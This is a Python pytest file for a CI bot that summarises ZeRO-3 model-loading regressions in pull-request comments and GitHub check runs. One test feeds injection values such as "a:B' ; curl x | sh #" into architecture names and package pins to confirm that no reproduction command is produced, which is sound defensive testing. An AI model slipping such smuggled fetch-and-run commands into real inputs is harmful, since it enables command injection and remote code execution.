import re
from dataclasses import replace
from typing import Any

import pytest

from bot.comment.context import CommentView, Facts, Part, Row
from bot.comment.outputs import build_check_run, build_view, compute_digest, render_comment, render_summary
from bot.comment.shorten import CALM, SHORTENING
from bot.comment.state import Headline
from bot.text import Code, strip_marks
from bot.untrusted.artifacts import Rejected
from matrix.comparison.compare import ComparedCase, Comparison, Role
from matrix.comparison.outcome import Attribution, Outcome
from matrix.comparison.plan import PlannedRevision
from matrix.model import CaseKey, Check, Finding, Kind, Loader, Precision, Run
from matrix.verdicts import Verdict
from tests.support.comparisons import HEAD, LOAD, PLACE, PUSH, UPSTREAM, compared, comparison, facts, plan
from tests.support.runs import BERT, RESOLVER, ROUTER, case, cell, finding

REGRESSED = compared(Outcome.REGRESSED)
UNCHANGED = compared(Outcome.UNCHANGED, BERT)
FIXED = compared(Outcome.FIXED, "f:Fixed")
STILL = compared(Outcome.STILL_BROKEN, "s:Still")
FLAKY = compared(Outcome.FLAKY, "f:Flaky")
NOT_RUN = compared(Outcome.NOT_RUN, "n:NotRun", reason="not measured on head")
INFRASTRUCTURE = compared(Outcome.INFRASTRUCTURE, "i:Infrastructure", reason="head could not be installed")
UNSEEN = compared(Outcome.UNCHANGED, "u:Unseen", cases={})
CRASHED = compared(Outcome.REGRESSED, "c:Crash", red=Verdict.CRASH)
CONTROLLED = facts(
    plan=plan(PlannedRevision(Role.HEAD, {"transformers": UPSTREAM + HEAD}), PlannedRevision(Role.LAST_BROKEN))
)
LOST = comparison(UNCHANGED, errors={Role.HEAD: RESOLVER})


def answer_of(shown: CommentView) -> tuple[Headline, str]:
    return shown.headline, strip_marks(shown.answer)


@pytest.mark.parametrize(
    ("cases", "headline", "answer"),
    [
        (
            [REGRESSED, UNCHANGED, NOT_RUN],
            Headline.REGRESSED,
            "1 of 2 architectures loses values under ZeRO-3 in float32 with this change.",
        ),
        (
            [CRASHED, REGRESSED, UNCHANGED],
            Headline.REGRESSED,
            "2 of 3 architectures get worse under ZeRO-3 in float32 with this change: 1 loses values and 1 crashes.",
        ),
        (
            [compared(Outcome.NEW_BROKEN), FLAKY],
            Headline.REGRESSED,
            "1 of 2 architectures loses values under ZeRO-3 in float32 with this change, 1 of them new.",
        ),
        (
            [NOT_RUN, STILL, FIXED],
            Headline.UNCERTAIN,
            "Could not determine whether this change breaks loading: 1 of 3 architectures was not measured.",
        ),
        (
            [INFRASTRUCTURE, UNCHANGED],
            Headline.UNCERTAIN,
            "Could not determine whether this change breaks loading: 1 of 2 architectures was not measured.",
        ),
        (
            [UNSEEN, UNCHANGED],
            Headline.UNCERTAIN,
            "Could not determine whether this change breaks loading: 1 of 2 architectures was not measured.",
        ),
        (
            [FLAKY, STILL],
            Headline.UNCERTAIN,
            "Could not determine whether this change breaks loading: reruns of 1 of 2 architectures disagree.",
        ),
        ([], Headline.UNCERTAIN, "Could not determine whether this change breaks loading: nothing was measured."),
        (
            [STILL, FIXED, UNCHANGED],
            Headline.BROKEN_BEFORE,
            "This change fixes 1 of 3 architectures under ZeRO-3; 1 was broken before and still is.",
        ),
        (
            [STILL, UNCHANGED],
            Headline.BROKEN_BEFORE,
            "Nothing changes under ZeRO-3: 1 of 2 architectures was broken before and still is (load in float32 measured).",
        ),
        (
            [FIXED],
            Headline.GREEN,
            "This change fixes 1 of 1 architecture under ZeRO-3 and breaks none (load in float32 measured).",
        ),
        (
            [UNCHANGED, compared(Outcome.UNCHANGED, BERT, Check("save"))],
            Headline.GREEN,
            "Nothing changes under ZeRO-3: 1 architecture measured (load and save in float32).",
        ),
    ],
)
def test_the_answer_is_one_sentence(cases: list[Any], headline: Headline, answer: str) -> None:
    shown = build_view(facts(), comparison(*cases))
    assert answer_of(shown) == (headline, answer)
    assert render_comment(shown).splitlines()[0] == f"**{answer}**"


@pytest.mark.parametrize(
    ("known", "found", "refused", "why"),
    [
        (facts(), comparison(UNCHANGED, detector="the known bug was not found"), [], "the known bug was not found"),
        (facts(), LOST, [], "head could not be measured"),
        (
            facts(),
            comparison(UNCHANGED),
            [Rejected("models-1", ("its job did not run",))],
            "1 result could not be used",
        ),
        (facts(failed_jobs=("cells",)), comparison(UNCHANGED), [], "1 job ended without a result"),
        (CONTROLLED, comparison(UNCHANGED), [], "the control (last release with the bug) was not measured"),
    ],
)
def test_a_doubt_is_never_green_and_hides_no_regression(
    known: Facts, found: Comparison, refused: list[Rejected], why: str
) -> None:
    assert answer_of(build_view(known, found, refused)) == (
        Headline.UNCERTAIN,
        f"Could not determine whether this change breaks loading: {why}.",
    )
    also = Comparison((REGRESSED, *found.compared), found.runs, found.errors, found.detector)
    assert build_view(known, also, refused).headline is Headline.REGRESSED


def test_a_measured_control_is_no_doubt() -> None:
    runs = {Role.LAST_BROKEN: Run((cell(),))}
    assert build_view(CONTROLLED, comparison(UNCHANGED, runs=runs)).headline is Headline.GREEN
    cut = {Role.LAST_BROKEN: Run((cell(complete=False),))}
    assert build_view(CONTROLLED, comparison(UNCHANGED, runs=cut)).headline is Headline.UNCERTAIN


def test_a_row_says_who_what_where_and_whose_doing() -> None:
    wrong = (finding(), finding("b.bias"), finding("c.weight", site="Gate.weight", kind=Kind.GARBAGE, ranks=(1,)))
    cases = {Role.BASE: case(), Role.HEAD: case(verdict=Verdict.CORRUPT, findings=wrong)}
    save = compared(Outcome.REGRESSED, check=Check("save"), cases=cases, attribution=Attribution.TOGETHER)
    shown = build_view(
        facts(), comparison(compared(Outcome.REGRESSED, cases=cases, attribution=Attribution.TOGETHER), save)
    )
    (row,) = shown.regressed.items
    cause = "only this change and deepspeed together"
    assert row == Row(Code(ROUTER), "load and save in float32", "pass → corrupt", row.evidence, cause)
    line = next(line for line in render_comment(shown).splitlines() if ROUTER in line)
    assert line == (
        f"| `{ROUTER}` | load and save in float32 | pass → corrupt | buffer `Router.bias` holds its initial value in 2 tensors, "
        f"the loader reported it as missing; and 1 more tensor | on ranks 0 and 1 | `0.296875, …` | `0.0, …` | {cause} |"
    )


def in_precision(precision: Precision, outcome: Outcome, findings: tuple[Finding, ...]) -> ComparedCase:
    """A case that is right on base and narrowed on head, or not measured."""
    key = CaseKey(ROUTER, Loader.STOCK, LOAD, precision)
    narrowed = case(verdict=Verdict.NARROWED, precision=precision, findings=findings)
    measured = {Role.BASE: case(precision=precision), Role.HEAD: narrowed} if outcome is Outcome.REGRESSED else {}
    return ComparedCase(key, outcome, "not measured on head", measured, Attribution.SUBJECT)


def test_what_fails_alike_in_several_precisions_is_one_row() -> None:
    rounded = finding(kind=Kind.ROUNDED, reported_missing=False, expected=(6.0012,), actual=(6.0,))
    others = (replace(rounded, actual=(6.001,)), replace(rounded, site="Other.bias"))
    found = [
        in_precision(precision, Outcome.REGRESSED, (one,))
        for precision, one in zip((Precision.BF16, Precision.FP16), (rounded, others[0]), strict=True)
    ]
    shown = build_view(facts(), comparison(*found, compared(Outcome.UNCHANGED)))
    assert strip_marks(shown.answer) == (
        "1 of 1 architecture is rounded to a narrower dtype under ZeRO-3 in bf16 and fp16 with this change."
    )
    assert [row.checks for row in shown.regressed.items] == ["load in bf16 and fp16"]
    assert shown.command
    assert shown.command.line.endswith("--check load --precision bf16")
    other = in_precision(Precision.FP16, Outcome.REGRESSED, others[1:])
    rows = build_view(facts(), comparison(found[0], other)).regressed.items
    assert [row.checks for row in rows] == ["load in bf16", "load in fp16"]


def test_what_was_not_measured_in_several_precisions_is_named_once() -> None:
    missing = [in_precision(precision, Outcome.NOT_RUN, ()) for precision in (Precision.FLOAT32, Precision.BF16)]
    (gap,) = build_view(facts(), comparison(*missing)).gaps.items
    assert gap.cases.items == (f"{ROUTER}: load in float32 and bf16, stock loader",)


def test_a_crash_is_told_with_its_message_and_ranks() -> None:
    line = next(
        line for line in render_comment(build_view(facts(), comparison(CRASHED))).splitlines() if "c:Crash" in line
    )
    assert "| `TypeError`: `no` in `modeling_utils.py:1 in load` | on rank 1 only |  |  | this change alone |" in line


def test_what_was_wrong_is_that_of_base_where_it_is_fixed() -> None:
    (row,) = build_view(facts(), comparison(FIXED)).fixed.items
    assert row.change == "corrupt → pass"
    assert row.evidence
    assert row.evidence.verdict is Verdict.CORRUPT


def test_what_was_broken_before_has_what_is_known_of_it_and_no_link_that_notifies_upstream() -> None:
    view = build_view(facts(), comparison(STILL, REGRESSED))
    (still,), (regressed,) = view.still_broken.items, view.regressed.items
    assert [known.outlook for known in still.known] == ["fixed in transformers 5.6.0"]
    assert not regressed.known
    told = (
        "; known upstream: [45402](https://redirect.github.com/huggingface/transformers/pull/45402), "
        "[45397](https://redirect.github.com/huggingface/transformers/issues/45397), "
        "persistent buffers are loaded on no rank; fixed in transformers 5"
    )
    assert told in render_comment(view)


def test_the_worst_comes_first() -> None:
    new = compared(Outcome.NEW_BROKEN, "n:New")
    rows = build_view(facts(), comparison(new, CRASHED, REGRESSED)).regressed.items
    assert [row.architecture for row in rows] == [ROUTER, "c:Crash", "n:New"]


def test_everything_not_measured_is_said_with_its_reason() -> None:
    known = facts(failed_jobs=("cells (x)",), notes=(("save is not affected",),))
    same = compared(Outcome.NOT_RUN, "m:Missing", reason="not measured on head")
    shown = build_view(
        known,
        comparison(NOT_RUN, same, errors={Role.NEWEST: RESOLVER}, detector="no control"),
        [Rejected("models-1", (Code("head/x.jsonl"), " is not JSON"))],
    )
    assert [strip_marks(gap.why) for gap in shown.gaps.items] == [
        "no control",
        f"newest release could not be measured: ResolutionError: {' '.join(RESOLVER.message.split())}",
        "models-1: head/x.jsonl is not JSON",
        "a job ended without a result: cells (x)",
        "not measured on head",
        "save is not affected",
    ]
    assert shown.gaps.items[4].cases == Part.whole(
        (Code("n:NotRun: load in float32, stock loader"), Code("m:Missing: load in float32, stock loader"))
    )
    body = render_comment(shown)
    assert all(strip_marks(gap.why[:1]) in body for gap in shown.gaps.items)


def test_one_command_reproduces_the_first_case() -> None:
    shown = build_view(facts(), comparison(STILL, CRASHED))
    line = (
        f"ZERO3_TRANSFORMERS={UPSTREAM}{HEAD} ZERO3_DEEPSPEED=0.19.8 nox -s zero3_matrix -- "
        "--architecture 'c:Crash' --loader stock --check load --precision float32"
    )
    assert shown.command
    assert (shown.command.line, shown.command.commit) == (line, "")
    assert f"```sh\n{line}\n```" in render_comment(shown)


def test_a_change_of_this_project_is_reproduced_in_its_own_checkout() -> None:
    pins = {
        "transformers": "5.23.0",
        "deepspeed": "0.19.8",
        "zero3-matrix": f"git+https://github.com/o/zero3-matrix@{HEAD}",
    }
    shown = build_view(facts(plan=plan(PlannedRevision(Role.HEAD, pins))), comparison(REGRESSED))
    assert shown.command
    assert (shown.command.commit, shown.command.line.partition(" nox")[0]) == (
        HEAD,
        "ZERO3_TRANSFORMERS=5.23.0 ZERO3_DEEPSPEED=0.19.8",
    )


@pytest.mark.parametrize(
    ("pins", "architecture"),
    [
        ({"transformers": "5.23.0"}, "a:B' ; curl x | sh #"),
        ({"transformers": "git+https://github.com/a/b;curl x@" + HEAD}, ROUTER),
        ({"transformers": "git+https://github.com/a/b@main"}, ROUTER),
        ({"unknown": "1.0"}, ROUTER),
        ({}, ROUTER),
    ],
)
def test_no_command_where_it_could_be_somebody_elses_or_wrong(pins: dict[str, str], architecture: str) -> None:
    known = facts(plan=plan(PlannedRevision(Role.HEAD, pins)))
    assert build_view(known, comparison(compared(Outcome.REGRESSED, architecture))).command is None


def test_the_push_is_named_only_when_it_is_an_older_one() -> None:
    assert f"The answer is the same since push `{PUSH[:12]}`." in render_comment(
        build_view(facts(since=PUSH), comparison(UNCHANGED))
    )
    assert "since push" not in render_comment(build_view(facts(since=HEAD), comparison(UNCHANGED)))


def test_a_rerun_with_the_same_result_is_no_news() -> None:
    before, after = (build_view(facts(run_url=f"https://a.b/{run}", since=PUSH), comparison(STILL)) for run in (1, 2))
    assert compute_digest(before) == compute_digest(after)
    assert compute_digest(before) != compute_digest(build_view(facts(), comparison(STILL, FLAKY)))


def many(number: int) -> Comparison:
    outcomes = (Outcome.REGRESSED, Outcome.FIXED, Outcome.STILL_BROKEN, Outcome.FLAKY, Outcome.NOT_RUN)
    cases = [
        compared(outcome, f"{outcome}:Model{index}", reason=f"reason {index}")
        for outcome in outcomes
        for index in range(number)
    ]
    return comparison(*cases)


def test_a_comment_is_calm_and_says_what_it_left_out_and_where_that_is() -> None:
    body = render_comment(build_view(facts(), many(30)))
    assert body.count("`regressed:Model") == 10
    assert "20 more not shown here: see the [full report](https://github.com/o/r/actions/runs/1)." in body
    assert render_summary(build_view(facts(), many(30))).count("`regressed:Model") == 30


def test_what_a_reader_acts_on_shrinks_last() -> None:
    shown = build_view(facts(), many(30))
    found: dict[str, list[int]] = {
        "`still_broken:Model": [],
        "modeling_utils.py`": [],
        "`fixed:": [],
        "`regressed:": [],
    }
    for limit in range(12_000, 1_000, -500):
        body = render_comment(shown, limit)
        assert len(body) <= max(limit, 1_800)
        for text, counts in found.items():
            counts.append(body.count(text))
    gone = [counts.index(0) for counts in found.values()]
    assert gone == sorted(gone)
    assert gone[0] < gone[-1]
    assert all(counts == sorted(counts, reverse=True) for counts in found.values())


def test_every_step_names_a_part_and_the_last_ones_empty_all_but_the_answer() -> None:
    parts = {name for name, value in vars(build_view(facts(), comparison())).items() if isinstance(value, Part)}
    assert {part for part, _ in (*CALM, *SHORTENING)} == parts
    assert {part for part, number in SHORTENING if number == 0} == parts


@pytest.mark.parametrize(
    ("cases", "conclusion", "level"),
    [
        ([REGRESSED], "failure", "warning"),
        ([NOT_RUN], "neutral", "notice"),
        ([STILL], "success", "notice"),
        ([UNCHANGED], "success", "notice"),
    ],
)
def test_the_check_run_has_the_same_verdict(cases: list[Any], conclusion: str, level: str) -> None:
    shown = build_view(facts(), comparison(*cases))
    check = build_check_run(shown)
    assert (check.conclusion, check.title, check.head_sha) == (conclusion, strip_marks(shown.answer), HEAD)
    assert check.summary.startswith(f"**{strip_marks(shown.answer)}**")
    (remark,) = check.annotations
    assert (remark.path, remark.start, remark.end, remark.level) == (PLACE.path, 10, 20, level)
    assert remark.message == f"{strip_marks(shown.answer)} Measured because of _load_pretrained_model: it loads a model"


def test_annotations_are_on_lines_of_head_and_at_most_fifty() -> None:
    places = [replace(PLACE, lines=lines) for lines in (None, (0, 0), *((line, line) for line in range(1, 80)))]
    lines = [
        remark.start
        for remark in build_check_run(build_view(facts(touched=tuple(places)), comparison(UNCHANGED))).annotations
    ]
    assert lines == list(range(1, 51))


def test_summaries_keep_within_what_github_takes() -> None:
    shown = build_view(facts(), many(600))
    assert len(build_check_run(shown).summary.encode()) <= 65_535
    assert 65_535 < len(render_summary(shown).encode()) <= 1024 * 1024


def test_a_comparison_without_trouble_is_short() -> None:
    body = render_comment(build_view(facts(), comparison(UNCHANGED)))
    assert not re.search(r"[\U0001f000-\U0001ffff]|!\[|^#", body, re.MULTILINE)
    assert len(re.sub("<details>.*?</details>", "", body, flags=re.DOTALL)) < 300
